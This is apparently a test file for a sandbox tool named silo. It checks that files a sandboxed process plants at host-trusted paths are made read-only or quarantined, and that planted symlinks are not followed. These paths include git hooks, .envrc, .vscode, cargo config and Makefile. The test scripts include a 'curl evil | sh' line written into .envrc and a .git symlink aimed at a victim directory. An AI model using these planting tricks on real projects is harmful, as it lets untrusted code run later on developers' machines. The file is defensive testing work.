/**
 * THREATS.md invariant 2 (no host code later): what a sandbox leaves at a path a host program runs or
 * trusts (git hooks and hooksPath directories, direnv's .envrc, editors' workspace files, task runners'
 * and cargo's config) is refused (read-only) or quarantined at exit; a protected name that is a symlink
 * is protected as a name (put back if replaced or retargeted); and the quarantine never follows a
 * symlink the sandbox planted (`.git` → a victim directory outside the project).
 *
 * Each case first shows the attack works without the barrier: a naive symlink-following move really
 * moves the victim's files, and the same planting script through silo with the protection opted out
 * (`[mount] writable` in a trusted silo.toml) leaves the planted files in place.
 */
import { beforeAll, describe, expect, test } from "bun:test";
import { existsSync, lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, renameSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { makeHome, makeProject, runSilo, tmp } from "../../helpers/silo.ts";

let home: string;
beforeAll(async () => {
  home = makeHome();
  const r = await runSilo(["install", "python@3.11-slim"], { home });
  if (r.exitCode !== 0) throw new Error(`silo install python failed: ${r.stderr}`);
}, 600_000);

/** Every quarantine record of `home`: id → meta.json. */
function records(): { id: string; entries: { path: string; type: string; reason: string }[]; tool: string; root: string }[] {
  const dir = join(home, "quarantine");
  if (!existsSync(dir)) return [];
  return readdirSync(dir).map((id) => JSON.parse(readFileSync(join(dir, id, "meta.json"), "utf8")));
}
const quarantined = (id: string, path: string) => join(home, "quarantine", id, "files", path);

/** A trusted silo.toml that opens `paths` (the barrier bypassed: the positive control). */
async function openUp(proj: string, paths: string[]) {
  writeFileSync(join(proj, "silo.toml"), `[mount]\nwritable = ${JSON.stringify(paths)}\n`);
  const t = await runSilo(["trust"], { home, cwd: proj });
  expect(t.exitCode).toBe(0);
}

// Both ends of a run: handed over to the native stage's waiter (`silo __after`), and kept in silo (--timing).
const paths = [
  ["handed over", [] as string[]],
  ["kept in silo", ["--timing"]],
] as const;

describe("the quarantine never follows a symlink the sandbox planted", () => {
  const plantGit = (victim: string) => `import os; os.symlink(${JSON.stringify(victim)}, '.git')`;
  const makeVictim = () => {
    const v = tmp("silo-victim-");
    writeFileSync(join(v, "config"), "[core]\n\tsecret = yes\n");
    mkdirSync(join(v, "hooks"));
    writeFileSync(join(v, "hooks", "pre-commit"), "#!/bin/sh\n");
    return v;
  };

  test("positive control: a move of .git/config that follows the planted .git link takes the victim's file", () => {
    const proj = makeProject("");
    const victim = makeVictim();
    symlinkSync(victim, join(proj, ".git"));
    renameSync(join(proj, ".git", "config"), join(tmp(), "config"));
    expect(existsSync(join(victim, "config"))).toBe(false);
  });

  for (const [how, flags] of paths)
    test(`${how}: .git → victim is moved as a link; the victim keeps config and hooks`, async () => {
      const proj = makeProject("");
      const victim = makeVictim();
      const r = await runSilo(["run", ...flags, "python", "-c", plantGit(victim)], { home, cwd: proj });
      expect(r.exitCode).toBe(0);
      expect(readFileSync(join(victim, "config"), "utf8")).toBe("[core]\n\tsecret = yes\n");
      expect(readFileSync(join(victim, "hooks", "pre-commit"), "utf8")).toBe("#!/bin/sh\n");
      expect(existsSync(join(proj, ".git"))).toBe(false);
      const rec = records().find((x) => x.root === proj)!;
      expect(rec.entries).toEqual([expect.objectContaining({ path: ".git", type: "symlink" })]);
      expect(readlinkSync(quarantined((rec as { id: string }).id, ".git"))).toBe(victim);
      expect(r.stderr).toContain("silo quarantine");
    });
});

describe("a protected name that is a symlink is protected as a name", () => {
  const setup = () => {
    const proj = makeProject("");
    mkdirSync(join(proj, "editor", "vscode"), { recursive: true });
    writeFileSync(join(proj, "editor", "vscode", "settings.json"), "{}\n");
    writeFileSync(join(proj, "envrc.real"), "export A=1\n");
    symlinkSync("editor/vscode", join(proj, ".vscode"));
    symlinkSync("envrc.real", join(proj, ".envrc"));
    return proj;
  };
  const plant = [
    "import os",
    "os.unlink('.envrc'); open('.envrc', 'w').write('curl evil | sh\\n')",
    "os.unlink('.vscode'); os.mkdir('.vscode'); open('.vscode/tasks.json', 'w').write('{\"evil\": 1}\\n')",
  ].join("\n");

  test("positive control: with the protection opted out, the sandbox replaces both links with its own files", async () => {
    const proj = setup();
    await openUp(proj, [".envrc", ".vscode"]);
    const r = await runSilo(["run", "python", "-c", plant], { home, cwd: proj });
    expect(r.exitCode).toBe(0);
    expect(lstatSync(join(proj, ".envrc")).isFile()).toBe(true);
    expect(readFileSync(join(proj, ".envrc"), "utf8")).toBe("curl evil | sh\n");
    expect(lstatSync(join(proj, ".vscode")).isDirectory()).toBe(true);
  });

  for (const [how, flags] of paths)
    test(`${how}: both are the original symlinks again and the planted files are in quarantine`, async () => {
      const proj = setup();
      const r = await runSilo(["run", ...flags, "python", "-c", plant], { home, cwd: proj });
      expect(r.exitCode).toBe(0);
      expect(readlinkSync(join(proj, ".envrc"))).toBe("envrc.real");
      expect(readlinkSync(join(proj, ".vscode"))).toBe("editor/vscode");
      expect(readFileSync(join(proj, "envrc.real"), "utf8")).toBe("export A=1\n");
      expect(readFileSync(join(proj, "editor", "vscode", "settings.json"), "utf8")).toBe("{}\n");
      const rec = records().find((x) => x.root === proj) as { id: string; entries: { path: string; type: string }[] };
      expect(rec.entries.map((e) => [e.path, e.type]).sort()).toEqual([[".envrc", "file"], [".vscode", "directory"]]);
      expect(readFileSync(quarantined(rec.id, ".envrc"), "utf8")).toBe("curl evil | sh\n");
      expect(readFileSync(quarantined(rec.id, ".vscode/tasks.json"), "utf8")).toBe('{"evil": 1}\n');
      expect(r.stderr).toContain("put back the protected symlinks");
    });

  test("a retargeted link is put back; what the link resolves to inside the project stays read-only", async () => {
    const proj = setup();
    const r = await runSilo(
      ["run", "python", "-c", "import os\nos.unlink('.envrc'); os.symlink('evil.sh', '.envrc')\ntry:\n  open('envrc.real', 'a')\nexcept OSError as e:\n  print(e.errno)"],
      { home, cwd: proj },
    );
    expect(r.stdout).toBe("30\n"); // EROFS
    expect(readlinkSync(join(proj, ".envrc"))).toBe("envrc.real");
    const rec = records().find((x) => x.root === proj) as { id: string };
    expect(readlinkSync(quarantined(rec.id, ".envrc"))).toBe("evil.sh");
  });

  test("a dangling protected link: what the sandbox creates at its target is quarantined", async () => {
    const proj = makeProject("");
    symlinkSync("envrc.real", join(proj, ".envrc"));
    const r = await runSilo(["run", "python", "-c", "open('envrc.real', 'w').write('curl evil | sh')"], { home, cwd: proj });
    expect(r.exitCode).toBe(0);
    expect(existsSync(join(proj, "envrc.real"))).toBe(false);
    expect(readlinkSync(join(proj, ".envrc"))).toBe("envrc.real");
  });
});

describe("the protected set covers what other host tools run", () => {
  // Exists before the run: a write inside fails (EROFS, 30).
  const existing = [".pre-commit-config.yaml", ".cargo/config.toml", ".devcontainer/devcontainer.json", ".helix/config.toml", "app.code-workspace", ".githooks/pre-commit", "tools/hooks/pre-commit", "Makefile"];
  // Missing before the run: quarantined at exit.
  const created = [".husky/pre-commit", "new.code-workspace", ".cargo/config", "later/hooks/pre-push"];
  const setup = () => {
    const files: Record<string, string> = {};
    for (const f of existing) files[f] = "original\n";
    // core.hooksPath, read from .git/config as data: git would run tools/hooks/*.
    files[".git/config"] = "[core]\n\trepositoryformatversion = 0\n\thooksPath = tools/hooks\n[core]\n\thooksPath = later/hooks\n";
    // Narrowing, so it applies from an untrusted file.
    return makeProject('[mount]\nprotect = ["Makefile", "later/hooks"]\n', files);
  };
  const script = [
    "import os, json",
    `res = {}`,
    `for f in ${JSON.stringify(existing)}:`,
    "  try:",
    "    open(f, 'a').write('planted\\n'); res[f] = 0",
    "  except OSError as e:",
    "    res[f] = e.errno",
    `for f in ${JSON.stringify(created)}:`,
    "  os.makedirs(os.path.dirname(f) or '.', exist_ok=True); open(f, 'w').write('planted\\n')",
    "print(json.dumps(res))",
  ].join("\n");

  test("positive control: with every one opted out, the sandbox writes them all", async () => {
    const proj = setup();
    await openUp(proj, [".pre-commit-config.yaml", ".cargo/config.toml", ".cargo/config", ".devcontainer", ".helix", ".githooks", ".husky", "tools/hooks", "later/hooks", "Makefile"]);
    // *.code-workspace files have no opt-out but a trusted widening; the control leaves them out.
    const r = await runSilo(["run", "python", "-c", script.replaceAll("app.code-workspace", ".helix/x").replaceAll("new.code-workspace", ".helix/y")], { home, cwd: proj });
    expect(r.exitCode).toBe(0);
    for (const code of Object.values(JSON.parse(r.stdout))) expect(code).toBe(0);
    for (const f of created.filter((f) => !f.endsWith(".code-workspace"))) expect(readFileSync(join(proj, f), "utf8")).toBe("planted\n");
  });

  test("existing ones are read-only inside; created ones are quarantined", async () => {
    const proj = setup();
    const r = await runSilo(["run", "python", "-c", script], { home, cwd: proj });
    expect(r.exitCode).toBe(0);
    const res = JSON.parse(r.stdout) as Record<string, number>;
    for (const f of existing) expect([f, res[f]]).toEqual([f, 30]);
    for (const f of existing) expect(readFileSync(join(proj, f), "utf8")).toBe("original\n");
    for (const f of created) expect([f, existsSync(join(proj, f))]).toEqual([f, false]);
    const rec = records().find((x) => x.root === proj)!;
    expect(rec.entries.map((e) => e.path).sort()).toEqual([".cargo/config", ".husky", "later/hooks", "new.code-workspace"]);
  });
});

describe("the waiter hands over to silo __after only when a protected name may have changed", () => {
  // A project with the protected set present, a protected symlink and a workspace file: the common case,
  // where the exit costs the native stage a few lstat calls and no silo process.
  const setup = () => {
    const proj = makeProject("", { ".vscode/settings.json": "{}", "envrc.real": "", "app.code-workspace": "{}", ".pre-commit-config.yaml": "" });
    symlinkSync("envrc.real", join(proj, ".envrc"));
    return proj;
  };
  const run = (proj: string, code: string) => runSilo(["run", "python", "-c", code], { home, cwd: proj, env: { SILO_TRACE: "1" } });

  test("nothing protected changed: no __after", async () => {
    const r = await run(setup(), "open('out.txt', 'w').write('x')");
    expect(r.exitCode).toBe(0);
    expect(r.stderr).toContain("trace: "); // the trace is on (silo's own marks before the handover)
    expect(r.stderr).not.toContain("__after");
  });
  test("a protected symlink replaced, or a workspace file added: __after", async () => {
    const a = await run(setup(), "import os; os.unlink('.envrc'); os.symlink('envrc.real', '.envrc')");
    expect(a.stderr).toContain("__after");
    const b = await run(setup(), "open('b.code-workspace', 'w').write('{}')");
    expect(b.stderr).toContain("__after");
  });
});

